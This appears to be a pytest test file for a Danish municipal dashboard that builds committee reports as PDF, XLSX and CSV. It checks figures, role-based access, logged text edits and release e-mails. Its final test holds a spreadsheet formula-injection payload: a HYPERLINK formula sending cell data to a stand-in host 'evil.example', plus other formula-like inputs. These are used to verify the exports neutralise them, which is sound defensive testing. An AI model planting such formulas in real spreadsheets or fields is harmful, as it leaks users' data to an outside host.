"""Committee reports (issue 13): the PDF, XLSX and CSV hold the dashboard's figures to the digit, the generated
sentence and the demo label; a report is kept per area × release × format; the chief's text edits are logged and
printed; every report view and download answers by the reader's role; release packs e-mail a link, never figures."""

import csv
import io
import re
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from django.contrib.auth.models import User
from django.core import mail
from django.utils import translation
from pypdf import PdfReader

from goals import local_indicators, progress
from goals.models import ChartSnapshot, Goal, Target
from goals.templatetags.jobmaal import figure
from indicators.models import ImportRun, Indicator, Observation
from municipalities.models import Area, Municipality
from reports import building, content, exports, packs, releases
from reports.models import Report, ReportTextEdit, Subscription
from tests import databases, factories
from tests.browser.conftest import ARTIFACTS
from tests.factories import log_in

pytestmark = [pytest.mark.django_db, pytest.mark.long]  # PDFs with charts drawn by chromium
DEMO = ["MM10", "FORGREKR", "MM13", "Y08A02", "Y30R21"]


def _jobcentre(slug: str) -> Area:
    return Area.objects.get(kind=Area.Kind.JOBCENTRE, code=slug)


def _municipality(code: str) -> Area:
    return Area.objects.get(kind=Area.Kind.MUNICIPALITY, municipality_id=code)


@pytest.fixture(scope="module")
def demo_data(django_db_setup, django_db_blocker):
    areas = (
        ("jobcentre", "taarnby-dragoer"),
        ("municipality", "185"),
        ("municipality", "155"),
        ("municipality", "751"),
        ("jobcentre", "aarhus"),
    )
    with databases.for_module(django_db_blocker, databases.demo(tuple(DEMO), areas)):
        yield


def _user(client, name: str, role: str | None, **scope) -> User:
    """Logged in, with an e-mail address for the release packs' e-mails."""
    return log_in(client, name, role, email=f"{name}@kommune.example", **scope)


def _built(area: Area, fmt: str) -> Report:
    report = building.request(area, fmt, 2020)
    return building.build(report.pk)


def _cards(area: Area):
    members, jobcentre = content.scope(area)
    with translation.override("da"):
        return progress.cards(area, members, jobcentre, 2020)[0]


def _flat(text: str) -> str:
    return re.sub(r"\s+", " ", text)


def test_the_pdf_holds_the_area_each_goals_figure_and_sentence(demo_data, tmp_path):
    area = _municipality("185")
    report = _built(area, "pdf")
    assert report.status == Report.Status.DONE and report.is_demo
    assert report.filename == f"jobmaal-rapport-kommune-185-maal-2020-udgivelse-{releases.current().pk}-DEMO.pdf"
    path = tmp_path / report.filename
    path.write_bytes(bytes(report.content))
    text = _flat(
        subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True).stdout
    )
    assert "Tårnby" in text and "DEMODATA" in text and "Rapport til beskæftigelsesudvalget" in text
    with translation.override("da"):
        for card in _cards(area):
            shown = figure(card.value, card.indicator.unit)  # as the dashboard's card shows it
            assert (
                card.value
                == Observation.objects.get(
                    indicator=card.indicator,
                    area=area,
                    period=card.period,
                    measure=card.measure,
                    breakdown=card.breakdown,
                ).value
            )
            assert shown in text, (card.indicator.code, shown)
    sentence = (
        "Andelen af flygtninge og familiesammenførte i beskæftigelse i Tårnby var 32,5 pct. for kvinder i "
        "december 2021, 3,4 procentpoint mere end et år før. I alt var andelen 49,8 pct., 4,8 procentpoint "
        "mere end et år før og 3,8 procentpoint over hele landet."
    )
    assert sentence in text  # the example, from the demo figures
    reader = PdfReader(io.BytesIO(bytes(report.content)))
    assert len(reader.pages) >= 8
    assert "/MarkInfo" in reader.trailer["/Root"] and reader.trailer["/Root"]["/Lang"] == "da"  # tagged, Danish
    assert reader.outline[0].title == "Tårnby" and reader.outline[1][0].title == "Overblik"  # bookmarks
    fonts = subprocess.run(["pdffonts", str(path)], capture_output=True, text=True, check=True).stdout
    assert "IBMPlexSans" in fonts and all(" yes " in line for line in fonts.splitlines()[2:])  # all embedded
    assert re.search(r"Side 1 af \d+", text)
    # The first page as a picture, for the reviewer.
    if shutil.which("pdftoppm"):
        ARTIFACTS.mkdir(exist_ok=True)
        subprocess.run(
            ["pdftoppm", "-png", "-r", "80", "-f", "1", "-l", "2", str(path), str(ARTIFACTS / "report-taarnby")],
            check=True,
        )


MONTHS = (
    "januar",
    "februar",
    "marts",
    "april",
    "maj",
    "juni",
    "juli",
    "august",
    "september",
    "oktober",
    "november",
    "december",
)
ROW_STARTS = (*MONTHS, "1.", "2.", "Tårnby", "Hele", "Sammenlignelige", "Lokalt")
HEADER_WORDS = ("Periode", "Område", "Seneste", "Ændring", "landet", "kommuner", "(pct.)", "Kvinder", "Mænd", "alt")


def _lines(path: Path, page: int) -> list[list[tuple[float, float, str]]]:
    """The page's lines as pdftotext places them: each a list of (left, right, word), left to right."""
    out = subprocess.run(
        ["pdftotext", "-bbox", "-f", str(page), "-l", str(page), str(path), "-"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    lines: dict[float, list] = {}
    for x0, y0, x1, word in re.findall(
        r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="[\d.]+">([^<]*)', out
    ):
        lines.setdefault(round(float(y0)), []).append((float(x0), float(x1), word))
    return [sorted(words) for _y, words in sorted(lines.items())]


def _cells(words: list[tuple[float, float, str]]) -> list[tuple[float, str]]:
    """A table row's cells: words closer than 8 pt belong together; (right edge, text) of each."""
    cells: list[list] = []
    for x0, x1, word in words:
        if cells and x0 - cells[-1][0] < 8:
            cells[-1] = [x1, cells[-1][1] + " " + word]
        else:
            cells.append([x1, word])
    return [(x, text) for x, text in cells]


def test_the_pdf_is_an_overview_a_page_per_goal_and_an_appendix_with_each_number_under_its_header(demo_data, tmp_path):
    area = _municipality("185")
    path = tmp_path / "report.pdf"
    path.write_bytes(bytes(_built(area, "pdf").content))

    def page_text(n: int) -> str:
        return _flat(
            subprocess.run(
                ["pdftotext", "-layout", "-f", str(n), "-l", str(n), str(path), "-"],
                capture_output=True,
                text=True,
                check=True,
            ).stdout
        )

    first = page_text(1)
    assert "Overblik" in first and all(f"Mål {n}:" in first for n in (1, 2, 3))  # every goal's status, alone
    for n in (1, 2, 3):  # one page per goal, its goal text whole
        text = page_text(1 + n)
        goal = Goal.objects.get(goal_set__year=2020, number=n)
        assert f"Mål {n}" in text and _flat(goal.text_da) in text and f"Side {1 + n} af" in text
    assert "Figurer og tal" in page_text(5)
    # Alignment: in every table row, each figure's right edge is a column header's (both right-aligned).
    number = re.compile(r"[+\u2212-]?\d{1,3}(\.\d{3})*(,\d+)?( pct\.| procentpoint| %)?|ikke sat|–")
    checked = 0
    for n in range(2, len(PdfReader(str(path)).pages) + 1):
        lines = _lines(path, n)
        headers = {
            round(x, 0) for line in lines if any(w in HEADER_WORDS for _a, _b, w in line) for x, _text in _cells(line)
        }
        for line in lines:
            cells = _cells(line)[1:]
            # A table's row: a row header, then figures (a chart's legend or axis labels are not)
            if line[0][2] not in ROW_STARTS or not cells or not all(number.fullmatch(text) for _x, text in cells):
                continue
            for right, text in cells:
                assert any(abs(right - h) <= 1 for h in headers), (n, text, right, sorted(headers))
                checked += 1
    assert checked > 150  # the goal pages' and the appendix's tables


def test_the_xlsx_cells_are_the_database_values(demo_data):
    area = _jobcentre("taarnby-dragoer")
    report = _built(area, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(bytes(report.content)))
    assert book.sheetnames == ["Overblik", "Mål 1", "Mål 2", "Mål 3", "Data", "Metadata"]
    overview = book["Overblik"]
    assert overview["A1"].value.startswith("DEMODATA") and overview.freeze_panes == "A3"
    rows = list(overview.iter_rows(min_row=3, max_row=5))
    cards = _cards(area)
    for row, card in zip(rows, cards, strict=True):
        assert row[0].value == card.goal.number and row[1].value == card.indicator.name_da
        assert Decimal(str(row[3].value)) == card.value  # the database's value, not a rounded text
        assert row[3].number_format == ("#,##0.0" if card.is_share else "#,##0")
        assert Decimal(str(row[7].value)) == card.country
    assert overview.column_dimensions["B"].width == 42
    data = book["Data"]
    header = [c.value for c in data[2]]
    assert header[:8] == ["Mål", "Indikator", "Rolle", "Opdeling", "Område", "Periode", "Periodens start", "Værdi"]
    mm13 = Observation.objects.get(
        indicator__code="MM13", area=area, period="2021M12", breakdown="", measure=cards[1].measure
    )
    found = [
        r
        for r in data.iter_rows(min_row=3, values_only=True)
        if r[1] == mm13.indicator.name_da and r[4] == area.name and r[5] == "december 2021" and r[3] == "I alt"
    ]
    assert len(found) == 1 and Decimal(str(found[0][7])) == mm13.value
    meta = {row[0]: row[1] for row in book["Metadata"].iter_rows(min_row=2, values_only=True)}
    assert meta["Data"].startswith("DEMODATA") and meta["Område"] == area.name


def test_the_csv_round_trips_through_pandas(demo_data):
    area = _municipality("185")
    report = _built(area, "csv")
    raw = bytes(report.content)
    assert raw.startswith("\ufeff".encode()) and b";" in raw.splitlines()[0]
    frame = pd.read_csv(io.BytesIO(raw), sep=";", decimal=",", encoding="utf-8-sig")
    columns = ["Mål", "Indikator", "Rolle", "Opdeling", "Område", "Periode", "Periodens start", "Værdi"]
    assert list(frame.columns[:8]) == columns
    assert frame["Værdi"].dtype == float and (frame["Datakilde"].str.startswith("DEMODATA")).all()
    assert frame["Mål"].dtype == int and set(frame["Mål"]) <= {1, 2, 3}  # goal numbers, not "1,000000"
    row = frame[
        (frame["Indikator"] == "Personer i fleksjob")
        & (frame["Område"] == "Tårnby")
        & (frame["Periodens start"] == "2021-12-01")
    ]
    fleksjob = Indicator.objects.get(code="Y08A02")
    database = Observation.objects.get(
        indicator=fleksjob, area=area, period="2021M12", breakdown="", measure=fleksjob.headline_key[0]
    )
    assert len(row) == 1 and Decimal(str(row["Værdi"].iloc[0])) == database.value


def test_a_report_is_kept_per_area_release_and_format(demo_data, monkeypatch):
    queued = []
    monkeypatch.setattr(building, "enqueue", lambda pk, queue: queued.append(pk))
    area = _municipality("185")
    first = building.request(area, "xlsx", 2020)
    built = building.build(first.pk)
    again = building.request(area, "xlsx", 2020)
    assert again.pk == first.pk and building.build(again.pk).built_at == built.built_at  # served, not rebuilt
    # A newer release is a new report; the old one is kept as it was.
    newer = ImportRun.objects.create(source="demo", status="succeeded", rows_created=1)
    assert building.request(area, "xlsx", 2020).pk != first.pk and releases.current() == newer
    assert Report.objects.get(pk=first.pk).status == Report.Status.DONE


def test_a_lost_build_is_queued_again_and_given_up_after_three_attempts(demo_data, monkeypatch):
    queued = []
    monkeypatch.setattr(building, "enqueue", lambda pk, queue: queued.append(pk) or True)
    report = building.request(_municipality("185"), "csv", 2020)
    Report.objects.filter(pk=report.pk).update(status="running", attempts=1, heartbeat_at=None)
    Report.objects.filter(pk=report.pk).update(requested_at=report.requested_at.replace(year=2020))
    assert building.resume_stalled() == 1 and queued[-1] == report.pk
    assert Report.objects.get(pk=report.pk).status == Report.Status.QUEUED
    Report.objects.filter(pk=report.pk).update(status="running", attempts=3, heartbeat_at=None)
    assert building.resume_stalled() == 0
    failed = Report.objects.get(pk=report.pk)
    assert failed.status == Report.Status.FAILED and "3 attempts" in failed.error


def test_the_chief_edits_a_goals_text_the_edit_is_logged_and_printed(demo_data, client, monkeypatch):
    monkeypatch.setattr(building, "enqueue", lambda pk, queue: True)
    chief = _user(client, "chief", "chief", jobcentre=_jobcentre("taarnby-dragoer"))
    area = _municipality("185")
    old = _built(area, "pdf")
    page = client.get("/kommune/185/rapporter/tekster/")
    assert page.status_code == 200
    generated = page.context["form"]["goal_2"].initial
    women = "Andelen af flygtninge og familiesammenførte i beskæftigelse i Tårnby var 32,5 pct. for kvinder"
    assert generated.startswith(women)
    bad = client.post("/kommune/185/rapporter/tekster/", {"goal_1": "x", "goal_2": "", "goal_3": "y"})
    assert bad.status_code == 400 and "Tekst til mål 2" in bad.content.decode()
    assert not ReportTextEdit.objects.exists()  # nothing half-saved
    mine = "Udvalget bemærker, at andelen for kvinder stiger."
    form = {f"goal_{n}": t for n, t, _e in building.texts_for(area, releases.current(), 2020)} | {"goal_2": mine}
    response = client.post("/kommune/185/rapporter/tekster/", form)
    assert response.status_code == 302 and response["Location"] == "/kommune/185/rapporter/"
    edit = ReportTextEdit.objects.get()
    assert (edit.goal_number, edit.old_text, edit.new_text, edit.user) == (2, generated, mine, chief)
    assert not Report.objects.filter(pk=old.pk).exists()  # the stored report is made again with the text
    rebuilt = _built(area, "xlsx")
    texts = [
        row[11]
        for row in openpyxl.load_workbook(io.BytesIO(bytes(rebuilt.content)))["Overblik"].iter_rows(
            min_row=3, max_row=5, values_only=True
        )
    ]
    assert texts[1] == mine and texts[0].startswith("Samarbejdsgrad med virksomheder i Tårnby var")
    # Only the jobcentre's chief edits: the chair of the municipality reads the report but not the texts.
    _user(client, "chair", "chair", municipality_id="185")
    assert client.get("/kommune/185/rapporter/").status_code == 200
    assert client.get("/kommune/185/rapporter/tekster/").status_code == 403
    assert client.post("/kommune/185/rapporter/tekster/", form).status_code == 403


def test_report_pages_and_downloads_answer_by_role(demo_data, client, monkeypatch):
    monkeypatch.setattr(building, "enqueue", lambda pk, queue: True)
    taarnby, aarhus = _built(_municipality("185"), "csv"), _built(_municipality("751"), "csv")
    jobcentre = _built(_jobcentre("taarnby-dragoer"), "csv")
    cases = {
        ("chair", "185"): {taarnby: 200, aarhus: 403, jobcentre: 403},
        ("chief", "taarnby-dragoer"): {taarnby: 200, aarhus: 403, jobcentre: 200},
        ("ministry", None): {taarnby: 200, aarhus: 200, jobcentre: 200},
        (None, None): {taarnby: 403, aarhus: 403, jobcentre: 403},
    }
    for (role, scope), expected in cases.items():
        kwargs = {"municipality_id": scope} if role == "chair" else {}
        if role == "chief":
            kwargs = {"jobcentre": _jobcentre(scope)}
        _user(client, f"{role}-{scope}", role, **kwargs)
        for report, status in expected.items():
            for url in [f"/rapport/{report.pk}/", f"/rapport/{report.pk}/status/", f"/rapport/{report.pk}/hent/"]:
                assert client.get(url).status_code == status, (role, url)
            listing = (
                f"/jobcenter/{report.area.code}/rapporter/"
                if report.area.kind == "jobcentre"
                else f"/kommune/{report.area.municipality_id}/rapporter/"
            )
            assert client.get(listing).status_code == status, (role, listing)
        client.logout()
    download = client.get(f"/rapport/{taarnby.pk}/hent/")
    assert download.status_code == 302 and "/konto/log-ind/" in download["Location"]  # not logged in
    _user(client, "chair2", "chair", municipality_id="185")
    response = client.get(f"/rapport/{taarnby.pk}/hent/")
    assert response["Content-Disposition"] == f'attachment; filename="{taarnby.filename}"'
    assert response.content == bytes(taarnby.content) and response["Cache-Control"] == "private, no-store"
    # Asking for one: a chair may, for their municipality; a bad format names what was wrong.
    assert client.post("/kommune/185/rapporter/", {"format": "docx"}).status_code == 400
    response = client.post("/kommune/185/rapporter/", {"format": "pdf"})
    report = Report.objects.get(area=_municipality("185"), format="pdf")
    assert response.status_code == 302 and response["Location"] == f"/rapport/{report.pk}/"
    assert client.post("/kommune/751/rapporter/", {"format": "pdf"}).status_code == 403


def test_a_release_pack_and_the_subscribers_e_mail_carry_a_link_not_figures(
    demo_data, client, monkeypatch, django_capture_on_commit_callbacks
):
    queued = []
    monkeypatch.setattr(building, "enqueue", lambda pk, queue: queued.append(pk) or True)
    chair = _user(client, "chair", "chair", municipality_id="185")
    assert client.post("/kommune/185/rapporter/", {"action": "subscribe"}).status_code == 302
    assert Subscription.objects.filter(user=chair, area=_municipality("185")).exists()
    outsider = factories.user(
        "outsider", "chair", password=None, email="outsider@kommune.example", municipality_id="751"
    )
    Subscription.objects.create(user=outsider, area=_municipality("185"))  # e.g. before their role changed
    release = releases.current()
    with django_capture_on_commit_callbacks(execute=True):
        assert packs.build(release.pk) == 2 * Area.objects.filter(kind__in=packs.KINDS).count()
    assert Report.objects.filter(release=release, in_pack=True).count() == len(queued)
    for fmt in packs.PACK_FORMATS:
        report = Report.objects.get(release=release, area=_municipality("185"), format=fmt)
        building.build(report.pk)
        packs.after_build(Report.objects.get(pk=report.pk))
    assert len(mail.outbox) == 1
    message = mail.outbox[0]
    assert message.to == ["chair@kommune.example"] and "Tårnby" in message.subject and "demodata" in message.subject
    assert "http://127.0.0.1:8000/kommune/185/rapporter/" in message.body
    with translation.override("da"):
        for card in _cards(_municipality("185")):
            assert figure(card.value, card.indicator.unit) not in message.body  # a link, never a figure
    assert not message.attachments
    packs.after_build(Report.objects.get(release=release, area=_municipality("185"), format="pdf"))
    assert len(mail.outbox) == 1  # once per release
    # Unsubscribing stops it.
    assert client.post("/kommune/185/rapporter/", {"action": "unsubscribe"}).status_code == 302
    assert not Subscription.objects.filter(user=chair).exists()


def test_a_pack_waits_for_the_releases_charts(demo_data):
    release = releases.current()
    ChartSnapshot.objects.filter(area=_municipality("185")).update(data_version=release.pk - 1)
    with pytest.raises(packs.ChartsNotReady):
        packs.build(release.pk)


def test_the_pages_offer_the_report(demo_data, client):
    _user(client, "chief", "chief", jobcentre=_jobcentre("taarnby-dragoer"))
    page = client.get("/jobcenter/taarnby-dragoer/").content.decode()
    assert 'href="/jobcenter/taarnby-dragoer/rapporter/"' in page and "Rapport til udvalget" in page
    listing = client.get("/jobcenter/taarnby-dragoer/rapporter/").content.decode()
    assert "Lav rapporten som PDF" in listing and "Læs og ret teksten" in listing
    assert 'href="/kommune/185/rapporter/"' in client.get("/kommune/185/").content.decode()


def test_a_targets_change_makes_the_stored_reports_stale(demo_data, monkeypatch):
    monkeypatch.setattr(building, "enqueue", lambda pk, queue: True)
    report = _built(_municipality("185"), "csv")
    Target.objects.create(
        jobcentre=_jobcentre("taarnby-dragoer"),
        indicator=Indicator.objects.get(code="MM13"),
        year=2020,
        value=Decimal("52"),
    )
    assert not Report.objects.filter(pk=report.pk).exists()
    assert exports.CONTENT_TYPES["csv"].startswith("text/csv")


def test_the_charts_are_drawn_with_the_plotly_js_of_the_installed_plotly(demo_data):
    import plotly

    from reports import chromium

    full = chromium._version(Path(plotly.__file__).parent / "package_data" / "plotly.min.js")
    assert chromium.bundle().name == "plotly-basic.min.js" and chromium._version(chromium.bundle()) == full
    kinds = {trace.get("type", "scatter") for chart in ChartSnapshot.objects.all() for trace in chart.figure["data"]}
    assert kinds and kinds <= chromium.BASIC_TYPES  # every trace a goal chart has, the basic bundle draws


def test_an_import_of_national_figures_queues_the_release_pack_once_and_an_own_upload_does_not(
    demo_data, settings, monkeypatch, django_capture_on_commit_callbacks
):
    from indicators.signals import import_finished
    from reports import tasks

    settings.BUILD_REPORT_PACKS = True
    sent = []
    monkeypatch.setattr(tasks.build_pack, "apply_async", lambda args, **options: sent.append((args, options)))
    release = releases.current()
    with django_capture_on_commit_callbacks(execute=True):
        for _ in range(3):  # the import announced again (issue 20: the pack was queued three times)
            import_finished.send(sender=ImportRun, import_run=release, indicator_ids=[])
    assert sent == [((release.pk,), {"queue": settings.PACKS_QUEUE, "countdown": 30, "retry": False})]
    upload = ImportRun.objects.create(source="manual", status="succeeded", rows_created=3)
    with django_capture_on_commit_callbacks(execute=True):
        import_finished.send(sender=ImportRun, import_run=upload, indicator_ids=[])
    assert len(sent) == 1  # a municipality's own figures are no release


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")'


def test_no_name_or_text_from_a_user_runs_as_a_formula_in_the_report_workbook_or_csv(demo_data, client, monkeypatch):
    """R10: a chief's report texts and own indicator's name come out as text in every sheet and in the CSV."""
    monkeypatch.setattr(building, "enqueue", lambda pk, queue: True)
    jobcentre, area = _jobcentre("taarnby-dragoer"), _municipality("185")
    chief = _user(client, "chief", "chief", jobcentre=jobcentre)
    own = local_indicators.create(
        jobcentre,
        Goal.objects.get(number=3),
        Municipality.objects.get(code="185"),
        chief,
        name=HOSTILE_NAME,
        unit="count",
        polarity="higher",
        definition="Egen",
    )
    local_indicators.set_value(own, jobcentre, Municipality.objects.get(code="185"), "2021M12", Decimal(4), chief)
    texts = {"goal_1": "=1+2", "goal_2": "-2+3 er en tekst", "goal_3": "@SUM(A1:A9)"}
    assert client.post("/kommune/185/rapporter/tekster/", texts).status_code == 302

    book = openpyxl.load_workbook(io.BytesIO(bytes(_built(area, "xlsx").content)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert {"=1+2", "-2+3 er en tekst", "@SUM(A1:A9)", HOSTILE_NAME} <= values
    assert sum(c.data_type == "n" for c in cells) > 100  # the figures stay numbers

    rows = list(csv.reader(io.StringIO(bytes(_built(area, "csv").content).decode("utf-8-sig")), delimiter=";"))
    names = [row[1] for row in rows if HOSTILE_NAME in row[1]]
    assert names and set(names) == {"'" + HOSTILE_NAME}
    formula_like = [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert formula_like == []
